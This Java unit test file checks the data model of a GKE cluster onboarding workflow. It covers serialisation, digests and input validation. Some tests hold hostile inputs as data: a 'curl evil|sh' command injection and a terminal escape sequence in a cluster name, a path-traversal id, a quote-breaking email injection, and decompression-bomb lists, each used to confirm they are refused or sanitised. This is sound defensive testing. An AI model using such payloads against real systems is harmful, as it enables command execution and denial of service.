package dev.embark.workflows.model;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.embark.workflows.wire.CompressedJson;
import dev.embark.workflows.wire.PayloadFormat;
import java.lang.reflect.RecordComponent;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.Named;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

class ModelTest {

  private final ObjectMapper json = PayloadFormat.mapper();

  @Test
  void everyOutcomeSurvivesTheWire() throws Exception {
    UndoPiece piece = new UndoPiece("bindings", UndoPiece.Result.FAILED, "why", "gcloud …");
    List<Outcome> outcomes =
        List.of(
            new Outcome.Onboarded("c"),
            new Outcome.Unchanged("c"),
            new Outcome.Offboarded(List.of(piece)),
            new Outcome.Unconfirmed(ErrorCode.FOREIGN_WRITER, "m"),
            new Outcome.RolledBack(ErrorCode.CANCELLED, "m", List.of()),
            new Outcome.RollbackIncomplete(ErrorCode.CANCELLED, "m", List.of(piece)),
            new Outcome.Rejected(ErrorCode.WRONG_PROJECT, "m"),
            new Outcome.Skipped("r"),
            new Outcome.Lost(ErrorCode.TERMINATED, "m"));

    for (Outcome outcome : outcomes) {
      assertThat(json.readValue(json.writeValueAsString(outcome), Outcome.class))
          .isEqualTo(outcome);
    }
    assertThat(outcomes.stream().<Class<?>>map(Object::getClass).toList())
        .as("none is forgotten")
        .containsExactlyInAnyOrderElementsOf(concrete(Outcome.class).toList());
  }

  @Test
  void aClusterHasEndedOnceItsStateIsTheKindOfAnOutcome() {
    assertThat(concrete(Outcome.class).map(Class::getSimpleName).map(ModelTest::in))
        .allMatch(ClusterProgress::hasEnded);
    assertThat(
            Stream.of(
                    ClusterProgress.PENDING,
                    ClusterProgress.RUNNING,
                    ClusterProgress.NEEDS_ATTENTION)
                .map(ModelTest::in))
        .noneMatch(ClusterProgress::hasEnded);
  }

  @Test
  void aReportedClusterIsNoCommandAndNoEscapeSequence() {
    // when
    ClusterProgress forged =
        new ClusterProgress(
            "x; curl evil|sh #", "a\u001b]52;c;\u0007", "Re\njected", null, "m\u202e");

    // then
    assertThat(forged)
        .isEqualTo(new ClusterProgress("unnamed", "a ]52;c; ", "Re jected", null, "m "));
  }

  private static ClusterProgress in(String state) {
    return new ClusterProgress("x", "p", state, null, null);
  }

  private static Stream<Class<?>> concrete(Class<?> type) {
    return type.isSealed()
        ? Stream.of(type.getPermittedSubclasses()).flatMap(ModelTest::concrete)
        : Stream.of(type);
  }

  @Test
  void aFieldOfANewerVersionDoesNotBreakAnOlderReader() throws Exception {
    String newer = "{\"window\":3,\"paused\":true,\"mode\":\"STOP\",\"added\":{\"later\":1}}";

    assertThat(json.readValue(newer, Share.class)).isEqualTo(new Share(3, true, Mode.STOP, 0));
  }

  @Test
  void aFieldThatIsMissingBecomesItsDefault() throws Exception {
    ClusterTarget target = json.readValue("{\"clusterId\":\"x\"}", ClusterTarget.class);

    assertThat(target.credential()).isEqualTo("default");
    assertThat(target.labels()).isEmpty();
    assertThat(TargetRules.problems(target)).hasSize(3);
  }

  /** Input from an older release, and input that no starter would write. */
  @ParameterizedTest
  @ValueSource(
      strings = {
        "{\"target\":{\"clusterId\":\"x\"},\"disable\":true}",
        "{\"target\":{\"clusterId\":\"x\"},\"sharing\":[null,{\"clusterId\":\"x\"}]}"
      })
  void aKeySwitchThatNamesNobodyElseIsAboutItsTarget(String request) throws Exception {
    assertThat(json.readValue(request, KeySwitch.Request.class).clusters())
        .extracting(ClusterTarget::clusterId)
        .containsExactly("x");
  }

  /** A failing condition would block the fleet; an incomplete one must not match every cluster. */
  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "{} | false",
        "{\"value\":\"prod\"} | false",
        "{\"key\":\"env\"} | true",
        "{\"key\":\"env\",\"equal\":true} | false"
      })
  void aConditionThatLacksFieldsCanBeJudged(String condition, boolean holds) throws Exception {
    String skip = "{\"held\":true,\"selector\":{\"conditions\":[" + condition + "]}}";
    ClusterTarget target = new ClusterTarget("x", "p", "s", "default", Map.of("env", "prod"));

    assertThat(json.readValue(skip, Skip.class).means(target)).isEqualTo(holds);
  }

  @Test
  void whatARecordCanBeAskedIsNoFieldOfIt() {
    ClusterTarget target = ClusterTarget.of("x", "p", "s").expecting("fingerprint");
    ClusterSnapshot snapshot =
        new ClusterSnapshot(
            "x",
            "n",
            "o",
            "gke",
            "p",
            "deleted",
            "c",
            "s",
            "terraform",
            "t",
            "ok",
            "e",
            true,
            "seal");

    assertThat(List.of(snapshot.isGke(), snapshot.isManagedByTerraform(), snapshot.isGone()))
        .containsOnly(true);
    for (Record written : List.of(target, snapshot)) {
      assertThat(json.<JsonNode>valueToTree(written).fieldNames())
          .toIterable()
          .containsExactlyInAnyOrderElementsOf(
              Stream.of(written.getClass().getRecordComponents())
                  .map(RecordComponent::getName)
                  .toList());
    }
  }

  @Test
  void tenThousandClustersFitIntoOneStart() throws Exception {
    List<ClusterTarget> targets =
        IntStream.range(0, 10_000)
            .mapToObj(
                i ->
                    new ClusterTarget(
                        new java.util.UUID(i * 7919L, i * 104729L).toString(),
                        "project-" + i % 100,
                        "castai-gke-" + i + "@project-" + i % 100 + ".iam.gserviceaccount.com",
                        "default",
                        Map.of("env", "prod", "region", "europe-west" + i % 5)))
            .toList();

    ClusterList list = ClusterList.of(targets);

    assertThat(list.targets()).isEqualTo(targets);
    assertThat(json.writeValueAsBytes(list).length).isLessThan(1024 * 1024);
    assertThat(ClusterList.of(targets).digest()).isEqualTo(list.digest());
    assertThat(ClusterList.of(targets.subList(1, 10_000)).digest()).isNotEqualTo(list.digest());
  }

  @Test
  void theOrderOfLabelsDoesNotChangeTheDigest() {
    Map<String, String> one = new LinkedHashMap<>();
    Map<String, String> other = new LinkedHashMap<>();
    for (int i = 0; i < 20; i++) {
      one.put("label-" + i, "x");
      other.put("label-" + (19 - i), "x");
    }

    ClusterList first = ClusterList.of(List.of(new ClusterTarget("i", "p", "s", "default", one)));
    ClusterList second =
        ClusterList.of(List.of(new ClusterTarget("i", "p", "s", "default", other)));

    assertThat(first.digest()).isEqualTo(second.digest());
  }

  @Test
  void aListThatIsNoListIsRefusedInWords() {
    ClusterList broken = new ClusterList(1, "x", new byte[] {1, 2, 3});

    assertThatThrownBy(broken::targets)
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessage("The list of clusters cannot be read or is too large");
  }

  /** A few kilobytes can unpack to more than a worker has memory for, and end it. */
  @ParameterizedTest
  @MethodSource("listsThatFillTheMemory")
  void aListThatIsLargeInMemoryIsRefused(String list) {
    byte[] gzip = CompressedJson.compress(list.getBytes(StandardCharsets.UTF_8));

    assertThat(gzip.length).isLessThan(1024 * 1024);
    assertThatThrownBy(() -> new ClusterList(1, "x", gzip).targets())
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessageStartingWith("The list");
  }

  private static Stream<Named<String>> listsThatFillTheMemory() {
    return Stream.of(
        Named.of("many clusters", "[" + "{},".repeat(1_000_000) + "{}]"),
        Named.of(
            "many labels", "[{\"labels\":{" + "\"a\":\"\",".repeat(2_100_000) + "\"a\":\"\"}}]"),
        Named.of("much of anything", "[" + " ".repeat(33 * 1024 * 1024) + "]"));
  }

  @ParameterizedTest
  @ValueSource(strings = {"{}", "[null]", "[[]]", "[\"text\"]", "[{}"})
  void aListOfSomethingElseIsRefused(String list) {
    byte[] gzip = CompressedJson.compress(list.getBytes(StandardCharsets.UTF_8));

    assertThatThrownBy(() -> new ClusterList(1, "x", gzip).targets())
        .isInstanceOf(IllegalArgumentException.class);
  }

  /** Text from others is cut; what Embark itself says is not. */
  @Test
  void aNoticeHasRoomForTheLongestReasonOfAPause() {
    for (ErrorCode code : Stream.of(ErrorCode.values()).filter(ErrorCode::isSystemic).toList()) {
      String why = code + ": " + code.meaning() + " " + code.remedy();
      String text = "Fleet " + "f".repeat(80) + " is paused: " + why;

      assertThat(notice(text).text()).isEqualTo(text);
    }
  }

  private static Notice notice(String text) {
    return new Notice(
        Notice.Event.FLEET_PAUSED,
        "f",
        "r",
        0,
        null,
        text,
        null,
        Counts.NONE,
        Authorship.of("ada"));
  }

  @ParameterizedTest
  @ValueSource(strings = {"0", "5", "0%", "100%", " 7% "})
  void readsBudgets(String text) {
    assertThat(MaxFailures.parse(text).toString()).isEqualTo(text.trim());
  }

  @ParameterizedTest
  @ValueSource(strings = {"", "-1", "101%", "5 %", "five", "1.5%"})
  void refusesWhatIsNoBudget(String text) {
    assertThatThrownBy(() -> MaxFailures.parse(text)).isInstanceOf(IllegalArgumentException.class);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "../../v1/x",
        "00000000-0000-4000-8000-00000000000/",
        "00000000-0000-4000-8000-0000000000011",
        "00000000-0000-4000-8000-00000000000G",
        "00000000-0000-4000-8000-000000000001\n"
      })
  void anIdThatCouldBecomeAPathIsNoClusterId(String text) {
    assertThat(TargetRules.isClusterId(text)).isFalse();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "x\" || true || \"@prod-cast-identity.iam.gserviceaccount.com",
        "cast-gke-a@evil.example.com",
        "cast gke@p.iam.gserviceaccount.com",
        "cast-gke-a@p.iam.gserviceaccount.com\n"
      })
  void anEmailThatCouldLeaveItsQuotesIsNotSafe(String email) {
    assertThat(CastServiceAccount.isSafe(email)).isFalse();
    assertThatThrownBy(() -> CastServiceAccount.member(email))
        .isInstanceOf(IllegalArgumentException.class);
  }

  @Test
  void knowsTheProjectOfAnAccount() {
    assertThat(TargetRules.projectOf("a@p1.iam.gserviceaccount.com")).isEqualTo("p1");
    assertThat(TargetRules.projectOf("a@p1.example.com.iam.gserviceaccount.com"))
        .isEqualTo("example.com:p1");
    assertThat(TargetRules.projectOf("1-compute@developer.gserviceaccount.com")).isEmpty();
  }

  @Test
  void aDiagnosisWithAnotherCredentialKeepsAllElse() {
    ClusterTarget target =
        new ClusterTarget("c", "p", "a", "eu", Map.of("env", "prod")).expecting("seen");
    DiagnosisRequest former =
        new DiagnosisRequest(target, ErrorCode.WRONG_PROJECT, "m", "cast", "id", true, 5);

    DiagnosisRequest other = former.withCredential("us");

    assertThat(other.target().credential()).isEqualTo("us");
    assertThat(other.target().expectation()).isEqualTo("seen");
    assertThat(other.withCredential("eu")).isEqualTo(former);
  }

  @Test
  void aQueueLeadsToItsEnvironment() {
    TaskQueues queues = new TaskQueues("staging");

    assertThat(TaskQueues.around(queues.workflows())).isEqualTo(queues);
    assertThat(queues.iamWrite()).isEqualTo("embark/staging/iam-write");
  }

  @Test
  void timingScalesWithThePropagation() {
    Timing timing = Timing.DEFAULT;

    assertThat(timing.settle()).hasSeconds(60);
    assertThat(timing.budget()).hasMinutes(15);
    assertThat(timing.firstPause()).hasSeconds(10);
    assertThat(timing.longestPause()).hasSeconds(60);
    assertThat(timing.atLeast(java.time.Duration.ofSeconds(300)).propagation()).hasSeconds(300);
    assertThat(timing.atLeast(java.time.Duration.ofSeconds(5))).isEqualTo(timing);
  }
}
